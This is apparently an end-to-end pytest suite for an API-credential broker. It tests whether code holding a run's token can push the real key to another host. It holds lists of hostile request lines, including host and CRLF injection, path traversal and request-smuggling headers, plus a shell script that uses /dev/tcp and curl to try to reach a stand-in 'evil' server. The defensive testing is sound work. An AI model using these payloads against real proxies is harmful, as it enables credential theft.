"""What code with a run's token can try at the broker's port; the real client, raw sockets."""

import asyncio
import json
import os
import socket
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from urllib.parse import urljoin

import httpx2
import pytest
from conftest import MakeRunner
from pydantic import SecretStr

import servers
from attacks import UNGUARDED, everything, leaks, loot, run_script
from claude_run.credential import CredentialKind
from doubles.recording_server import OK, Asked, RecordingServer, Script, recording_server
from runner.__main__ import QuietServer, _config, listen
from runner.broker import app as broker_app
from runner.broker.app import Broker, upstream_client
from runner.broker.grants import MAX_PARALLEL, Grant, Grants
from runner.credential import Credential
from servers import PLANTED_KEY, scenario

pytestmark = pytest.mark.e2e

ANSWER_SECONDS = 10.0
OPEN = "POST /v1/messages HTTP/1.1"
BODY = b'{"model":"claude","max_tokens":1,"messages":[]}'


@dataclass(slots=True, kw_only=True)
class Setting:
    """A broker with one grant, the upstream it is for, and a server it must never reach."""

    port: int
    upstream: RecordingServer
    evil: RecordingServer
    grants: Grants
    grant: Grant
    token: str

    def send(self, request: bytes, *, wait: float = ANSWER_SECONDS) -> bytes:
        """Send bytes, read until the broker closes or `wait` is over."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=wait) as connection:
            connection.sendall(request)
            answer = b""
            try:
                while chunk := connection.recv(65_536):
                    answer += chunk
            except (TimeoutError, ConnectionResetError):
                pass
            return answer

    def request(self, line: str = OPEN, *more: str) -> bytes:
        """A request with the run's token; `more` are further header lines."""
        headers = [
            line, f"Host: 127.0.0.1:{self.port}", f"x-api-key: {self.token}",
            "Content-Type: application/json", f"Content-Length: {len(BODY)}",
            "Connection: close", *more,
        ]  # fmt: skip
        return "\r\n".join(headers).encode("latin-1") + b"\r\n\r\n" + BODY


@contextmanager
def serving(grants: Grants, client: httpx2.AsyncClient) -> Iterator[int]:
    """A broker on a port, in an event loop of its own thread, as the runner serves it."""
    listener = listen("127.0.0.1", 0)
    server = QuietServer(_config(Broker(grants=grants, client=client)))

    async def serve() -> None:
        async with client:
            await server.serve(sockets=[listener])

    thread = threading.Thread(target=lambda: asyncio.run(serve()))
    thread.start()
    try:
        yield listener.getsockname()[1]
    finally:
        server.should_exit = server.force_exit = True
        thread.join(ANSWER_SECONDS)
        listener.close()


def key() -> Credential:
    return Credential(kind=CredentialKind.API_KEY, secret=SecretStr(PLANTED_KEY))


Make = Callable[..., Setting]


@pytest.fixture
def make() -> Iterator[Make]:
    """Start a broker; `client` and `script` replace its way out and what answers there."""
    with ExitStack() as stack:

        def start(
            *,
            script: Script | None = None,
            client: Callable[[], httpx2.AsyncClient] = upstream_client,
            budget_usd: float | None = None,
        ) -> Setting:
            upstream = stack.enter_context(recording_server(script))
            evil = stack.enter_context(recording_server())
            grants = Grants()
            grant = Grant(upstream=upstream.url, credential=key(), budget_usd=budget_usd)
            token = stack.enter_context(grants.issue(grant))
            port = stack.enter_context(serving(grants, client()))
            return Setting(
                port=port, upstream=upstream, evil=evil, grants=grants, grant=grant, token=token
            )

        yield start


def status(answer: bytes) -> int:
    """The status of an answer; 0 where the connection was closed without one."""
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0


def test_the_way_that_is_open(make: Make) -> None:
    """The same bytes without an attack arrive, with the key in the token's place."""
    setting = make()
    answer = setting.send(setting.request("POST /v1/messages?beta=true HTTP/1.1", "x-app: cli"))
    assert status(answer) == 200
    [asked] = setting.upstream.asked
    assert asked.line == "POST /v1/messages?beta=true HTTP/1.1"
    assert asked.body == BODY
    assert asked.all("x-api-key") == [PLANTED_KEY]
    assert setting.token not in str(asked)
    assert leaks(answer.decode(), PLANTED_KEY) == []


TARGETS = [
    "POST //{evil}/v1/messages HTTP/1.1",
    "POST ///{evil}/v1/messages HTTP/1.1",
    "POST /\\{evil}/v1/messages HTTP/1.1",
    "POST http://{evil}/v1/messages HTTP/1.1",
    "POST HTTP://{evil}/v1/messages HTTP/1.1",
    "POST http:{evil}/v1/messages HTTP/1.1",
    "POST @{evil}/v1/messages HTTP/1.1",
    "POST .{evil}/v1/messages HTTP/1.1",
    "POST {evil} HTTP/1.1",
    "CONNECT {evil} HTTP/1.1",
    "POST * HTTP/1.1",
    "POST /v1/messages/ HTTP/1.1",
    "POST /v1//messages HTTP/1.1",
    "POST //v1/messages HTTP/1.1",
    "POST /v1/messages/../models HTTP/1.1",
    "POST /v1/../v1/messages HTTP/1.1",
    "POST /v1/messages/..%2f..%2fv1/files HTTP/1.1",
    "POST /v1/%6dessages HTTP/1.1",
    "POST /v1/messages%00 HTTP/1.1",
    "POST /v1/messages%20HTTP/1.1%0d%0aHost:%20{evil} HTTP/1.1",
    "POST /V1/MESSAGES HTTP/1.1",
    "POST /v1/messages; HTTP/1.1",
    "POST /v1/messages#x HTTP/1.1",
    "POST /v1/messages?beta=true&x=//{evil} HTTP/1.1",
    "POST /v1/messages?beta=true# HTTP/1.1",
    "POST /v1/messages/batches HTTP/1.1",
    "POST /v1/files HTTP/1.1",
    "POST /v1/complete HTTP/1.1",
    "POST /v1/organizations/api_keys HTTP/1.1",
    "POST /api/oauth/claude_cli/create_api_key HTTP/1.1",
    "GET /v1/messages HTTP/1.1",
    "GET /v1/models HTTP/1.1",
    "GET /v1/files HTTP/1.1",
    "GET /v1/organizations/me HTTP/1.1",
    "HEAD /v1/messages HTTP/1.1",
    "PUT /v1/messages HTTP/1.1",
    "DELETE /v1/messages HTTP/1.1",
    "PATCH /v1/messages HTTP/1.1",
    "OPTIONS /v1/messages HTTP/1.1",
    "TRACE /v1/messages HTTP/1.1",
    "post /v1/messages HTTP/1.1",
    "POST  /v1/messages HTTP/1.1",
    "POST /v1/messages",
]

HEADERS = [
    "Transfer-Encoding: chunked",
    "Transfer-Encoding: identity",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding : chunked",
    "Content-Length: 1",
    "Content-Length: +1",
    "Content-Length: 99999999999999999999999",
    "x-api-key: sk-another",
    "x-api-key: {token}",
    "Authorization: Bearer {token}",
    "Authorization: Bearer sk-another",
    "x-app: a\rInjected: yes",
    "x-app: a\x00b",
    "x app: a",
    ": a",
    "Upgrade: h2c\r\nConnection: upgrade",
]


def test_other_targets_go_nowhere(make: Make) -> None:
    """Refused; neither the upstream nor anybody else hears of it."""
    setting = make()
    for target in TARGETS:
        line = target.format(evil=f"127.0.0.1:{setting.evil.port}")
        answer = setting.send(setting.request(line))
        assert status(answer) in (400, 404, 411), line
        assert (setting.upstream.asked, setting.evil.asked) == ([], []), line
        assert leaks(answer.decode("latin-1"), PLANTED_KEY) == []


def test_headers_that_two_servers_could_read_differently(make: Make) -> None:
    """Refused, or not passed on; one request stays one request."""
    setting = make()
    for header in HEADERS:
        setting.upstream.asked.clear()
        answer = setting.send(setting.request(OPEN, header.format(token=setting.token)))
        assert status(answer) in (200, 400, 401, 411, 413), header
        assert len(setting.upstream.asked) == (status(answer) == 200), header
        for asked in setting.upstream.asked:
            assert asked.all("x-api-key") == [PLANTED_KEY], header
            for name in ("authorization", "injected", "upgrade", "transfer-encoding"):
                assert asked.all(name) == [], header
        assert leaks(answer.decode("latin-1"), PLANTED_KEY) == []


def test_a_second_request_in_a_body_stays_in_the_body(make: Make) -> None:
    """Length and chunks disagree: whichever is believed, the upstream is asked at most once."""
    setting = make()
    inner = b"POST /v1/files HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"
    head = (
        f"POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: {setting.token}\r\n"
        "Connection: close\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    for length, body in ((5, b"0\r\n\r\n" + inner), (5 + len(inner), b"0\r\n\r\n" + inner)):
        setting.send(head.format(length).encode() + body)
    lines = {asked.line for asked in setting.upstream.asked}
    assert lines <= {"POST /v1/messages HTTP/1.1"}
    assert not any(inner in asked.body for asked in setting.upstream.asked)


def test_a_host_header_decides_nothing(make: Make) -> None:
    """The upstream sees its own name."""
    setting = make()
    head = setting.request().replace(
        f"Host: 127.0.0.1:{setting.port}".encode(), f"Host: 127.0.0.1:{setting.evil.port}".encode()
    )
    assert status(setting.send(head)) == 200
    assert setting.upstream.asked[0].all("host") == [f"127.0.0.1:{setting.upstream.port}"]
    assert setting.evil.asked == []


def test_a_broker_that_lets_targets_through_gives_the_key_away(
    make: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same lines against a proxy as one would write it in a hurry."""
    monkeypatch.setattr(broker_app, "permitted", lambda *_: True)
    monkeypatch.setattr(
        broker_app,
        "onward_url",
        lambda upstream, raw_path, _query: urljoin(upstream, raw_path.decode()),
    )
    setting = make()
    for number, target in enumerate((TARGETS[0], TARGETS[3], TARGETS[4]), 1):
        setting.send(setting.request(target.format(evil=f"127.0.0.1:{setting.evil.port}")))
        assert len(setting.evil.asked) == number
        assert setting.evil.asked[-1].all("x-api-key") == [PLANTED_KEY]


def test_a_redirect_is_not_followed(make: Make) -> None:
    """Nor passed on: an answer in Anthropic's own form, without the address."""
    setting = make()
    location = f"{setting.evil.url}/v1/messages"
    for code in (301, 302, 303, 307, 308):
        head = f"HTTP/1.1 {code} X\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n".encode()
        setting.upstream.script = lambda _asked, send, head=head: send(head)  # type: ignore[misc]
        answer = setting.send(setting.request())
        assert status(answer) == 502, code
        assert location.encode() not in answer
    assert setting.evil.asked == []


def test_a_client_that_follows_takes_the_key_along(make: Make) -> None:
    """What httpx2 would do: it drops `Authorization` on the way to another host, no more."""
    setting = make(client=lambda: httpx2.AsyncClient(follow_redirects=True))
    head = f"HTTP/1.1 302 X\r\nLocation: {setting.evil.url}/\r\nContent-Length: 0\r\n\r\n".encode()
    setting.upstream.script = lambda _asked, send: send(head)
    setting.send(setting.request())
    assert setting.evil.asked[0].all("x-api-key") == [PLANTED_KEY]


def test_tokens_of_others_open_nothing(make: Make) -> None:
    """Absent, invented, another run's after its end, the real key itself."""
    setting = make()
    with setting.grants.issue(
        Grant(upstream=setting.upstream.url, credential=key(), budget_usd=None)
    ) as finished:
        pass
    whole = setting.request()
    for token in ("", "run-invented", finished, PLANTED_KEY, setting.token[:-1], "\xe4" * 20):
        request = whole.replace(setting.token.encode(), token.encode("latin-1"))
        assert status(setting.send(request)) == 401
    assert setting.upstream.asked == []
    assert status(setting.send(whole)) == 200


def endless(_asked: Asked, send: Callable[[bytes], None]) -> None:
    """An answer that reports its input and then goes on and on."""
    usage = {"type": "message_start", "message": {"model": "opus", "usage": {"input_tokens": 9}}}
    send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n")
    send(b"event: message_start\ndata: " + json.dumps(usage).encode() + b"\n\n")
    deadline = time.monotonic() + ANSWER_SECONDS
    while time.monotonic() < deadline:
        send(b'event: content_block_delta\ndata: {"delta":"' + b"x" * 400 + b'"}\n\n')
        time.sleep(0.002)


def test_an_answer_that_nobody_reads_is_ended_and_counted(make: Make) -> None:
    """Hanging up before the count comes saves neither the agent its budget nor us the money."""
    setting = make(script=endless)
    with socket.create_connection(("127.0.0.1", setting.port)) as connection:
        connection.sendall(setting.request())
        read = 0
        while read < 50_000:
            read += len(connection.recv(65_536))
    assert setting.upstream.hung_up.wait(ANSWER_SECONDS / 2)
    deadline = time.monotonic() + ANSWER_SECONDS
    while not setting.grant.meter.output_tokens and time.monotonic() < deadline:
        time.sleep(0.01)
    assert setting.grant.meter.output_tokens > 1_000
    assert setting.grant.meter.input_tokens == 9


def test_a_spent_budget_lets_nothing_more_out(make: Make) -> None:
    """Also for whoever talks to the broker without Claude Code's own counting."""
    body = json.dumps({"model": "opus", "usage": {"output_tokens": 100_000}}).encode()
    head = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body)
    setting = make(budget_usd=1.0, script=lambda _asked, send: send(head + body))
    assert [status(setting.send(setting.request())) for _ in range(3)] == [200, 403, 403]
    assert len(setting.upstream.asked) == 1


def test_a_hundred_requests_at_once(make: Make) -> None:
    """So many go out as a run may have under way; the rest is refused, and later ones pass."""
    release = threading.Event()

    def late(_asked: Asked, send: Callable[[bytes], None]) -> None:
        release.wait(ANSWER_SECONDS)
        send(OK)

    setting = make(script=late)
    with ThreadPoolExecutor(100) as pool:
        answers = [pool.submit(setting.send, setting.request()) for _ in range(100)]
        deadline = time.monotonic() + ANSWER_SECONDS
        while sum(answer.done() for answer in answers) < 100 - MAX_PARALLEL:
            assert time.monotonic() < deadline
            time.sleep(0.01)
        release.set()
        found = sorted(status(answer.result()) for answer in answers)
    assert found == [200] * MAX_PARALLEL + [403] * (100 - MAX_PARALLEL)
    assert len(setting.upstream.asked) == MAX_PARALLEL
    assert status(setting.send(setting.request())) == 200


def test_a_body_without_bounds_is_refused_unread(make: Make) -> None:
    """By its stated length; without one, it is not accepted at all."""
    setting = make()
    for head in ("Content-Length: 34000000", "Content-Length: 9" + "9" * 11, "X: chunked"):
        request = (
            f"POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: {setting.token}\r\n"
            f"Connection: close\r\n{head}\r\n\r\n"
        )
        assert status(setting.send(request.encode())) in (411, 413)
    assert setting.upstream.asked == []


ANSWERS: list[tuple[bytes, int]] = [
    (b"", 502),
    (b"\x16\x03\x01garbage\r\n\r\n", 502),
    (b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello", 502),
    (b"HTTP/1.1 200 OK\r\nrequest-id: a\x00b\r\nContent-Length: 0\r\n\r\n", 502),
    (b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nhalf", 200),
    (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", 200),
    (b"HTTP/1.1 200 OK\r\n" + b"x-a: b\r\n" * 20_000 + b"\r\n", 502),
    (b"HTTP/1.1 304 X\r\nLocation: /x\r\n\r\n", 502),
]


def test_whatever_the_upstream_answers(make: Make, capfd: pytest.CaptureFixture[str]) -> None:
    """The broker says what happened or breaks off, and serves the next request."""
    setting = make()
    for answer, expected in ANSWERS:
        setting.upstream.script = lambda _asked, send, data=answer: send(data)  # type: ignore[misc]
        got = setting.send(setting.request())
        assert status(got) == expected, answer
        # Broken off, it does not look whole: no last chunk.
        assert got.endswith(b"0\r\n\r\n") is (expected != 200), answer
    setting.upstream.script = lambda _asked, send: send(OK)
    assert status(setting.send(setting.request())) == 200
    printed = capfd.readouterr()
    assert "Traceback" not in printed.err
    assert leaks(printed.err + printed.out, PLANTED_KEY) == []


def test_headers_of_an_answer_are_those_that_claude_code_needs(make: Make) -> None:
    """No cookie, no address, nothing of the upstream's own; a folded header forges none."""
    head = (
        b"HTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\nLocation: http://x/\r\nServer: up\r\n"
        b"X-Api-Key: echo\r\nrequest-id: req_1\r\nretry-after: 1\r\n x-folded: 1\r\n"
        b"anthropic-ratelimit-tokens-limit: 5\r\nContent-Length: 0\r\n\r\n"
    )
    setting = make(script=lambda _asked, send: send(head))
    lines = setting.send(setting.request()).lower().split(b"\r\n\r\n")[0].split(b"\r\n")[1:]
    names = {line.split(b":")[0] for line in lines}
    assert names == {
        b"date", b"request-id", b"retry-after", b"anthropic-ratelimit-tokens-limit",
        b"transfer-encoding", b"connection",
    }  # fmt: skip


def test_a_run_can_only_ask_what_claude_code_asks(
    runner: servers.Server, model: servers.Server
) -> None:
    """From inside a run, with its real token: other paths, another host, then the one way."""
    with recording_server() as evil:
        script = f"""exec > loot.txt 2>&1
ask() {{
  exec 3<>/dev/tcp/127.0.0.1/${{ANTHROPIC_BASE_URL##*:}}
  printf '%s HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: %s\\r\\nanthropic-version: 1\\r\\n' "$1" "$2" >&3
  printf 'Content-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{{}}' >&3
  head -n 1 <&3; exec 3>&-
}}
for target in 'POST //{evil.url[7:]}/v1/messages' 'POST {evil.url}/v1/messages' \
    'CONNECT {evil.url[7:]}' 'GET /v1/models' 'POST /v1/files' 'POST /v1/messages/../marker'; do
  ask "$target" "$ANTHROPIC_API_KEY"
done
ask 'POST /v1/messages' 'run-of-another'
ask 'POST /v1/messages?beta=true' "$ANTHROPIC_API_KEY"
curl -s --max-time 2 -x "$ANTHROPIC_BASE_URL" {evil.url}/
true"""
        stream = run_script(runner, script)
        assert evil.asked == []
    found = [int(line.split()[1]) for line in loot(stream).splitlines() if "HTTP/1.1" in line]
    # The last one reaches the model, which finds an empty object wanting.
    assert found == [404, 404, 404, 404, 404, 404, 401, 400]
    paths = {request["path"] for request in servers.recorded(model, "")}
    assert paths <= {"/v1/messages?beta=true", "/v1/messages"}
    assert leaks(everything(stream, runner), PLANTED_KEY) == []


@pytest.mark.parametrize("defended", [True, False])
@pytest.mark.root
def test_an_agent_starts_no_run_of_its_own(
    runner: servers.Server, weakened: MakeRunner, defended: bool
) -> None:
    """On a laptop whoever is there may call; an agent that calls would spend without a limit."""
    if os.geteuid() != 0:
        return
    inner = json.dumps({"prompt": scenario(servers.say("inner words"))})
    server = runner if defended else weakened(*UNGUARDED)
    script = f"""cat > body.json <<'JSON'
{inner}
JSON
curl -sN --max-time 20 -H 'Content-Type: application/json' -d @body.json {server.url}/run \
  > loot.txt; curl -s {server.url}/health >> loot.txt
curl -s -H 'X-Forwarded-For: 192.0.2.1' {server.url}/health >> loot.txt"""
    said = loot(run_script(server, script))
    assert ("inner words" in said) is not defended
    assert said.count("FORBIDDEN") == (3 if defended else 0)
